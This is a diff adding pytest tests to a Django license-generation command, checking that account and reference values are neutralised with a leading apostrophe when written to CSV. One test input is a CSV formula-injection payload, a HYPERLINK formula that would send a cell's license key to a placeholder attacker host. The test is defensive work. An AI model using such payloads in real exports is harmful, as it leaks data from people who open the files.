@@ -9,6 +9,7 @@ from django.core.management import CommandError, call_command
 from django.urls import reverse
 from django.utils import timezone
 
+from licensing.management.commands.generate_licenses import spreadsheet_safe
 from licensing.models import KEY_ALPHABET, DeviceLicense, License, LicenseKind
 from tests.factories import AccountFactory
 from tests.licensing.conftest import make_license
@@ -119,6 +120,46 @@ def test_generate_licenses_to_standard_output_keeps_the_summary_out_of_the_csv()
     assert out.splitlines()[0] == "key,max_activations,account,expires_at,reference"
     assert len(out.splitlines()) == 3
     assert "Generated 2" in err
+
+
+FORMULAS = ['=HYPERLINK("https://evil.example/?k="&A2,"open")', "+1+1", "-2+3", "@SUM(1+1)"]
+
+
+@pytest.mark.parametrize("formula", FORMULAS, ids=["equals", "plus", "minus", "at"])
+def test_generate_licenses_writes_no_cell_a_spreadsheet_would_run_as_a_formula(tmp_path, formula):
+    # given: an account login and a reference that a spreadsheet would take for formulas
+    AccountFactory(login=formula)
+    output = tmp_path / "keys.csv"
+    # when
+    code, _, _ = run(
+        "generate_licenses", "--count", "2", f"--account={formula}", f"--reference={formula}", "--output", str(output)
+    )
+    # then: those cells start with an apostrophe (text to a spreadsheet); keys, numbers and dates are untouched
+    assert code == 0
+    rows = list(csv.reader(output.open(newline="")))
+    assert rows[0] == ["key", "max_activations", "account", "expires_at", "reference"]
+    assert len(rows) == 3
+    for key, max_activations, account, expires_at, reference in rows[1:]:
+        assert KEY.match(key)
+        assert (max_activations, account, expires_at, reference) == ("1", "'" + formula, "", "'" + formula)
+    assert License.objects.filter(reference=formula).count() == 2  # stored as typed, neutralised only in the CSV
+
+
+@pytest.mark.parametrize(
+    ("cell", "written"),
+    [
+        ("\t=1+1", "'\t=1+1"),
+        ("\r=1+1", "'\r=1+1"),
+        ("=1+1", "'=1+1"),
+        ("pool@example.com", "pool@example.com"),
+        ("ABCDE-FGHIJ-KLMNO-PQRST", "ABCDE-FGHIJ-KLMNO-PQRST"),
+        ("2030-01-01T00:00:00+00:00", "2030-01-01T00:00:00+00:00"),
+        (3, 3),
+        ("", ""),
+    ],
+)
+def test_a_csv_cell_is_neutralised_only_when_it_starts_like_a_formula(cell, written):
+    assert spreadsheet_safe(cell) == written
 
 
 def test_generate_licenses_dry_run_and_usage_errors():
